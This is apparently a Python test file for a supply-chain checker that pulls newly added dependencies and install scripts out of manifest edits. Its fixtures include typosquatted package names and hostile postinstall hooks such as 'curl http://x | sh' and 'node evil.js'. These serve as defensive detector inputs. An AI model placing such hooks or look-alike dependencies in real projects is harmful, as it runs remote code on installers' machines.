"""Only what a manifest write/edit ADDS is checked."""
from __future__ import annotations

import json

from adr.supply.manifests import manifest_changes, manifest_kind


def added(path, new, old=""):
    ch = manifest_changes(path, new, old)
    return sorted((r.name, r.spec, r.source) for r in ch.packages), [(s.hook, s.command) for s in ch.scripts]


def test_kinds():
    assert manifest_kind("/x/requirements.txt") == "requirements"
    assert manifest_kind("requirements-dev.txt") == "requirements"
    assert manifest_kind("dev-requirements.in") == "requirements"
    assert manifest_kind("requirements/base.txt") == "requirements"
    assert manifest_kind("notes.txt") is None
    assert manifest_kind("a/package.json") == "package.json"
    assert manifest_kind("pyproject.toml") == "pyproject"
    assert manifest_kind("Pipfile") == "pipfile"
    assert manifest_kind("Cargo.toml") == "cargo"
    assert manifest_changes("README.md", "flask", "") is None


def test_requirements_diff():
    assert added("requirements.txt", "flask>=2\nreqeusts\nnumpy==1.26\n", "flask>=2\nnumpy==1.25\n") == \
        ([("numpy", "==1.26", ""), ("reqeusts", "", "")], [])
    assert added("requirements.txt", "flask>=2\n# comment\n", "flask>=2\n") == ([], [])
    assert added("requirements.txt", "Flask >= 2\n", "flask>=2\n") == ([], [])  # same package, same spec


def test_package_json_write_diff_and_scripts():
    old = json.dumps({"name": "x", "version": "1.0.0", "dependencies": {"react": "^18.2.0"}, "scripts": {"build": "tsc"}})
    new = json.dumps({"name": "x", "version": "1.0.1",
                      "dependencies": {"react": "^18.2.0", "crossenv": "^1.0.0", "al": "npm:lodash@^4"},
                      "devDependencies": {"vite": "^5", "local": "workspace:*"},
                      "scripts": {"build": "tsc", "postinstall": "curl http://x | sh"}})
    assert added("package.json", new, old) == (
        [("crossenv", "^1.0.0", ""), ("lodash", "^4", ""), ("vite", "^5", "")], [("postinstall", "curl http://x | sh")])


def test_package_json_edit_fragments():
    assert added("/a/package.json", '    "react": "^18.2.0",\n    "loadsh": "^4.17.21"\n', '    "react": "^18.2.0"\n') == \
        ([("loadsh", "^4.17.21", "")], [])
    assert added("/a/package.json", '  "scripts": {\n    "postinstall": "node evil.js"\n  },\n  "version": "1.0.1"',
                 '  "version": "1.0.0"') == ([], [("postinstall", "node evil.js")])
    # a version bump of the package itself is not a dependency
    assert added("/a/package.json", '  "version": "2.0.0",', '  "version": "1.0.0",') == ([], [])


def test_pyproject_write_and_fragments():
    old = '[project]\nname="x"\nversion="0.1"\ndependencies=["flask>=2"]\n[project.optional-dependencies]\ndev=["pytest"]\n'
    new = ('[project]\nname="x"\nversion="0.1"\ndependencies=["flask>=2","reqeusts"]\n'
           '[project.optional-dependencies]\ndev=["pytest","jeIlyfish"]\n'
           '[tool.poetry.dependencies]\npython="^3.11"\npendulum="^3"\n'
           '[dependency-groups]\ntest=["hypothesis"]\n')
    assert added("pyproject.toml", new, old)[0] == [("hypothesis", "", ""), ("jeIlyfish", "", ""),
                                                   ("pendulum", "^3", ""), ("reqeusts", "", "")]
    assert added("pyproject.toml", 'dependencies = [\n    "flask>=2",\n    "colourama",\n]',
                 'dependencies = [\n    "flask>=2",\n]')[0] == [("colourama", "", "")]
    assert added("pyproject.toml", 'requests = "^2.31"\nname = "proj"\nversion = "1.2"\n')[0] == [("requests", "^2.31", "")]


def test_pipfile_and_cargo():
    assert added("Pipfile", '[packages]\nrequests = "*"\ndjango = {version=">=4"}\n[dev-packages]\npytest="*"\n',
                 '[packages]\nrequests = "*"\n')[0] == [("django", ">=4", ""), ("pytest", "", "")]
    assert added("Cargo.toml", '[dependencies]\nserde = { version = "1", features=["derive"] }\ntokio = "1"\n'
                 'my = { git = "https://github.com/x/my" }\n', '[dependencies]\nserde = "1"\n')[0] == \
        [("my", "", "https://github.com/x/my"), ("tokio", "1", "")]
    assert added("Cargo.toml", 'tokio = { version = "1" }\nevil = "0.1"\n', 'tokio = { version = "1" }')[0] == [("evil", "0.1", "")]
